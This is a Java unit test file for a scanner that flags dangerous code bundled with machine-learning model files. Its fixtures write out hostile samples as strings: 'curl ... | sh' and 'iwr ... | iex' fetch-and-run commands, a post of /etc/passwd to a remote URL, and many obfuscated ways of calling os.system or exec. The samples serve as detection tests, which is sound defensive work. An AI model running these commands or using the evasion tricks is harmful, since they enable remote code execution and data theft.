package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.join;
import static io.sallyport.artifacts.evasion.ModelFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.artifacts.ModelScanner;
import io.sallyport.artifacts.PickleBytes;
import io.sallyport.artifacts.ScanFinding;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.ScanVerdict;
import io.sallyport.artifacts.internal.rules.DataFiles;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Code is read as its tokens, however it is written, and told by content and by name. */
final class CodeBesideModelsTest {
  private static final ModelScanner SCANNER = new ModelScanner(ScanLimits.standard());

  private static List<String> rules(byte[] bytes, String name) {
    return SCANNER.scan(bytes, name).findings().stream().map(ScanFinding::rule).distinct().toList();
  }

  private static List<String> script(String source) {
    byte[] archive =
        new RawZip()
            .add(RawZip.entry("m/data.pkl", PickleBytes.protocol(2).raw("N.").bytes()))
            .add(RawZip.entry("m/constants.pkl", PickleBytes.protocol(2).raw(").").bytes()))
            .add(RawZip.entry("m/code/__torch__/x.py", utf8(source)))
            .end();
    return rules(archive, "m.pt");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "x = torch. from_file(a)\n",
        "x = torch .from_file(a)\n",
        "x = torch.\\\n  from_file(a)\n",
        "x = (torch # why\n  .from_file(a))\n",
        "x = ops. aten. from_file(a)\n",
        "x = ops.image. read_file(a)\n"
      })
  void scriptThatReadsFilesInAnySpelling_isFlagged(String source) {
    assertThat(script(source)).contains("torchscript/files");
  }

  @ParameterizedTest
  @ValueSource(strings = {"MAR-INF/MANIFEST.json", "m/data.pkl", "m/constants.pkl"})
  void handlerInAnArchiveOfPyTorch_isJudgedAsAnyPython(String mark) {
    byte[] content =
        mark.endsWith("pkl")
            ? PickleBytes.protocol(2).raw("N.").bytes()
            : utf8("{\"model\":{\"handler\":\"h.py\"}}");
    for (String name : List.of("h.py", "m/code/h.py")) {
      byte[] archive =
          new RawZip()
              .add(RawZip.entry(mark, content))
              .add(RawZip.entry("m/data.pkl".equals(mark) ? "m/version" : "v", utf8("3\n")))
              .add(
                  RawZip.entry(
                      name, utf8("import os\nos.system('curl http://198.51.100.7/x | sh')\n")))
              .end();

      assertThat(SCANNER.scan(archive, "m.mar").verdict())
          .as(name)
          .isEqualTo(ScanVerdict.MALICIOUS);
    }
  }

  @Test
  void operationOfAnUnknownLibrary_isFlagged() {
    assertThat(script("x = ops.evil.run(a)\n")).containsExactly("torchscript/unknown-operation");
    assertThat(script("x = ops . evil . run(a)\n"))
        .containsExactly("torchscript/unknown-operation");
    for (String namespace : DataFiles.lines("rules/torchscript-namespaces.txt")) {
      assertThat(script("x = ops." + namespace + ".add(a)\n"))
          .as(namespace)
          .doesNotContain("torchscript/unknown-operation");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os as o\no.system('id')\n",
        "import json, os as o\no.system('id')\n",
        "import os\np = os\np.system('id')\n",
        "from os import *\nsystem('id')\n",
        "from os import (path,\n  system as s)\ns('id')\n",
        "exec ('x')\n",
        "import os\nos . system('id')\n",
        "import os\nos.\\\nsystem('id')\n",
        "import os\nos.\uff53ystem('id')\n",
        "import os\nvars(os)['system']('id')\n",
        "import os\nos.__dict__['sys' 'tem']('id')\n",
        "import builtins as b\nb.exec('1')\n",
        "from importlib import import_module as i\ni('o' + 's')\n",
        "import pickle as p\np.loads(__import__('base64').b64decode('gA=='))\n",
        "import torch\ntorch.load('http://x/y', weights_only = False)\n",
        "import asyncio\nasyncio.create_subprocess_shell('id')\n",
        "import pip\npip.main(['install', 'x'])\n",
        "import httpx\nhttpx.post(u, data=open('/etc/passwd').read())\n",
        "from urllib import request\nexec(request.urlopen(u).read())\n",
        "# -*- coding: utf-7 -*-\nx = 1\n"
      })
  void sourceInAnySpelling_isFlagged(String source) {
    assertThat(rules(utf8(source), "modeling.py")).anyMatch(rule -> rule.startsWith("code/"));
  }

  @Test
  void ordinarySource_isClean() {
    String source =
        "# -*- coding: utf-8 -*-\n\"\"\"Never call os.system( or exec( here.\"\"\"\n"
            + "import os\nimport torch.nn as nn\nfrom torch import load_state\n\n"
            + "class M(nn.Module):\n  def forward(self, x):\n"
            + "    return os.path.join(r'a', f'{x}') # subprocess.run\n\nmodel.eval()\n";

    assertThat(rules(utf8(source), "modeling.py")).isEmpty();
  }

  @Test
  void lineOfAPathFile_isFlagged() {
    assertThat(rules(utf8("import os; os.system('id')\n"), "evil.pth")).contains("code/source");
    assertThat(rules(utf8("./folder\nimport x\n"), "evil.pth")).contains("code/source");
  }

  @Test
  void programsWithoutAName_areFlagged() {
    byte[] rest = new byte[64];
    byte[] python = join(new byte[] {(byte) 0xcb, 0x0d, '\r', '\n'}, new byte[12], utf8("\u0063"));
    List<byte[]> programs =
        List.of(
            join(python, rest),
            join(new byte[] {0, 'a', 's', 'm', 1, 0, 0, 0}, rest),
            join(new byte[] {'B', 'C', (byte) 0xc0, (byte) 0xde}, rest),
            join(new byte[] {0x1b, 'L', 'u', 'a', 0x54}, rest),
            join(new byte[] {0x1b, 'L', 'J', 2}, rest),
            join(new byte[] {'d', 'e', 'x', '\n'}, utf8("035\0"), rest),
            join(new byte[] {0x4c, 0, 0, 0, 1, 0x14, 2, 0}, rest));

    assertThat(programs).allSatisfy(p -> assertThat(rules(p, "m.bin")).contains("code/program"));
  }

  @Test
  void scriptsByTheirNames_areJudgedByTheirCommands() {
    List<String> shells = DataFiles.lines("rules/shell-endings.txt");
    List<String> readable = DataFiles.lines("rules/readable-endings.txt");
    for (String ending : DataFiles.lines("rules/script-names.txt")) {
      boolean read = shells.contains(ending) || readable.contains(ending) || ending.equals("ps1");
      assertThat(rules(utf8("do something\n"), "m." + ending))
          .as(ending)
          .isEqualTo(read ? List.of() : List.of("code/program"));
      String attack = ending.equals("ps1") ? "iwr http://x | iex\n" : "a \"curl http://x | sh\"\n";
      String plain = shells.contains(ending) ? "curl http://x | sh\n" : attack;
      assertThat(rules(utf8(plain), "m." + ending))
          .as(ending)
          .containsExactly(read ? "code/shell-command" : "code/program");
    }
    for (String program : shells) {
      assertThat(rules(utf8("#!/bin/" + program + "\ncurl http://x | sh\n"), "run"))
          .containsExactly("code/shell-command");
    }
    for (String program : readable) {
      assertThat(rules(utf8("#!/bin/" + program + "\na('curl http://x | sh')\n"), "run"))
          .containsExactly("code/shell-command");
    }
  }

  @Test
  void notebook_isReadAsItsCode() {
    String evil =
        "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"import os as o\\n\","
            + "\"o.system('id')\"]}],\"nbformat\":4}";
    String plain =
        "{\"cells\":[{\"cell_type\":\"markdown\",\"source\":[\"os.system('x')\"]},"
            + "{\"cell_type\":\"code\",\"source\":[\"!pip install torch\\n\",\"x = 1\"]}]}";

    assertThat(rules(utf8(evil), "a.ipynb")).contains("code/source");
    assertThat(rules(utf8(plain), "a.ipynb")).isEmpty();
  }

  @Test
  void requirementsFromElsewhere_areFlagged() {
    for (String word : DataFiles.lines("rules/requirement-words.txt")) {
      assertThat(rules(utf8("torch>=2\n" + word + "x\n"), "requirements.txt"))
          .as(word)
          .containsExactly("code/requirements");
    }
    assertThat(rules(utf8("torch>=2\n# git+x\nnumpy\n"), "requirements.txt")).isEmpty();
  }
}
